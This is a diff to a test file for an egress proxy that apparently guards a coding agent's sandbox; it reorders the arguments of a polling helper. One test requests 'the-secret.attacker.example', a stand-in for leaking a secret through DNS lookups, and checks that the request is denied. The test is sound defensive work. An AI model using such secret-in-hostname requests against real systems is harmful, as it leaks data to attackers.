@@ -9,9 +9,9 @@ from typing import Any
 import httpx2
 import pytest
 from coding_agent_core.task.egress import Role, password
+from coding_agent_testbed.until import until
 
 from tests.fixtures.egress import KEY, EgressProxy, StartEgress, through
-from tests.fixtures.system import until
 
 NAMES = ("packages", "a.b.wild", "wild", "notwild", "mine", "closed", "node", "more", "model", "nowhere")
 
@@ -138,15 +138,15 @@ def test_an_agent_hears_what_was_denied_to_its_attempt(proxy: EgressProxy, machi
     proxy.get("https://nowhere.inside:2222/", "told-1", Role.AGENT)
     proxy.get("https://other.example.com/", "told-2")
     expected = {"nowhere.inside": 2, "nowhere.inside:2222": 1}
-    until(lambda: proxy.denials("told-1") == expected, "the denials are counted")
-    until(lambda: proxy.denials("told-2") == {"other.example.com": 1}, "another attempt's are apart")
+    until("the denials are counted", lambda: proxy.denials("told-1") == expected)
+    until("another attempt's are apart", lambda: proxy.denials("told-2") == {"other.example.com": 1})
     assert proxy.get("http://denials.egress.internal/", "told-1").status_code == 403, "not for the workspace"
 
 
 def test_no_name_that_a_command_invents_is_resolved(proxy: EgressProxy) -> None:
     """A name server of the attacker's would read the secret in it."""
     proxy.get("https://the-secret.attacker.example/", "canary-1")
-    entry = until(lambda: next((e for e in proxy.entries() if "canary" in e["user"]), None), "it is logged")
+    entry = until("it is logged", lambda: next((e for e in proxy.entries() if "canary" in e["user"]), None))
     assert (entry["result"], entry["user"]) == ("TCP_DENIED", "canary-1.workspace")
     assert (entry["host"], entry["address"]) == ("the-secret.attacker.example", "-")
 
@@ -163,10 +163,10 @@ def test_changed_settings_are_applied(proxy: EgressProxy, machine: int) -> None:
             return proxy.get(url).status_code == status
         return False
 
-    until(lambda: answers(200), "the host is allowed")
+    until("the host is allowed", lambda: answers(200))
     url_of_agent = proxy.variables("job-1")["HTTP_PROXY"]
     proxy.write({**settings, "egress": {"allow": ["not a host"]}})
-    until(lambda: "the old ones stay" in proxy.log(), "it says what is wrong")
+    until("it says what is wrong", lambda: "the old ones stay" in proxy.log())
     assert through(url_of_agent, url).status_code == 200
     proxy.write(settings)  # the module's other tests share the proxy
-    until(lambda: answers(403), "the host is denied again")
+    until("the host is denied again", lambda: answers(403))
